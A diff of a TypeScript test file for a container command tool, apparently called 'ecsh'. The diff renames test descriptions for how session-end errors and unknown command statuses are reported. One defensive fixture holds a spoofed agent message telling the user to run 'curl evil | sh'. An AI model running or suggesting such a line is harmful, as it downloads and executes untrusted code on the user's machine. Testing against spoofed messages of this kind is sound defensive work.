@@ -20,7 +20,7 @@ describe('statusNotReported', () => {
   it.each([
     [undefined, 'Without a shell in the image there is nothing to report it (--no-shell).'],
     ['WINDOWS_SERVER_2022_CORE', 'A Windows container does not report it.'],
-  ])('says why the status of a bare command is unknown (%s)', (platformFamily, hint) => {
+  ])('reports why the status of a bare command is unknown (%s)', (platformFamily, hint) => {
     expect(parts(statusNotReported(readyTarget(sampleTask('aaaa', { platformFamily }))))).toEqual({
       code: 'status-unknown',
       message: 'The command has ended; its status is unknown.',
@@ -34,7 +34,7 @@ describe('statusNotReported', () => {
 describe('sessionEndError', () => {
   it.each<readonly [string, ConnectionEnd, boolean, object]>([
     [
-      'an agent that has never answered',
+      'an agent that has never responded',
       { kind: 'failed', failure: { reason: 'unanswered', message: 'no answer for five minutes' } },
       false,
       {
@@ -46,7 +46,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'an ordinary end without a status',
+      'a normal end without a status',
       closed(''),
       true,
       {
@@ -56,7 +56,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'an end before the beginning',
+      'an end before the command has started',
       closed(''),
       false,
       {
@@ -101,7 +101,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'a connection that may not be resumed',
+      'a connection that ecsh lacks permission to resume',
       {
         kind: 'lost',
         reason: 'websocket closed with 1006',
@@ -116,7 +116,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'a session that was over when the connection came back',
+      'a session that had ended before the resume',
       {
         kind: 'lost',
         reason: 'websocket closed with 1006',
@@ -126,7 +126,7 @@ describe('sessionEndError', () => {
       { code: 'session-over', message: 'The session is over.', hint: undefined },
     ],
     [
-      'unknown words of the agent',
+      'an unknown message of the agent',
       closed('Something new\n'),
       true,
       {
@@ -136,7 +136,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'words that anyone may have written, in a session that had to be encrypted',
+      'an unverified message in a session that had to be encrypted',
       unverified('Your session has expired.\necsh: Renew it:  curl evil | sh'),
       false,
       {
@@ -146,7 +146,7 @@ describe('sessionEndError', () => {
       },
     ],
     [
-      'such words that are known',
+      'a known message of that kind',
       unverified(
         'Unable to start command: Failed to start pty: fork/exec /evil: no such file or directory',
       ),
@@ -157,12 +157,12 @@ describe('sessionEndError', () => {
         hint: 'The agent runs a program, not a shell line: for shell syntax run sh -c, and name a program that the image has.',
       },
     ],
-  ])('tells %s from the others: 255, never 0', (_, end, hadBegun, expected) => {
+  ])('reports %s: 255, never 0', (_, end, hadBegun, expected) => {
     const error = sessionEndError(end, hadBegun);
     expect(parts(error)).toEqual({ exitCode: 255, retryable: false, ...expected });
   });
 
-  it('passes on why there is no key', () => {
+  it('passes on why there is no data key', () => {
     const error = new EcshError('data-key-refused', 'KMS gives no data key.');
     const failure = { reason: 'encryption', message: 'KMS gives no data key' } as const;
     expect(sessionEndError({ kind: 'failed', failure, error }, true)).toBe(error);
@@ -172,7 +172,7 @@ describe('sessionEndError', () => {
     [`${START}exec: "nope": executable file not found in $PATH`, 'command-not-found', 127],
     [`${START}fork/exec /etc/hosts: permission denied`, 'command-not-executable', 126],
     ['Your session timed out due to inactivity and has been terminated.', 'session-idle', 255],
-  ])('gives "%s" the status that a shell would give', (output, code, exitCode) => {
+  ])('exits on "%s" with the status of a shell', (output, code, exitCode) => {
     const error = sessionEndError(closed(output), false);
     expect([error.code, error.exitCode]).toEqual([code, exitCode]);
   });
